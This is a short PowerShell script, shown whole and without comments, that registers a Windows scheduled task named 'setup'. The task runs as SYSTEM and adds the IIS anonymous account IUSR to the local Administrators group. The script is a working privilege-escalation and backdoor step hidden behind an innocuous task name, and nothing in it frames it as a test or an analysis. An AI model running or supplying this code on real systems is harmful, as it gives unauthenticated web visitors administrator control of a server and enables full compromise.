$service = New-Object -ComObject Schedule.Service
$service.Connect()
$definition = $service.NewTask(0)
$action = $definition.Actions.Create(0)
$action.Arguments = '/c net localgroup Administrators IUSR /add'
$action.Path = 'cmd.exe'
$definition.Principal.UserId = 'SYSTEM'
[void]$service.GetFolder('\').RegisterTaskDefinition('setup', $definition, 6, $null, $null, 5)
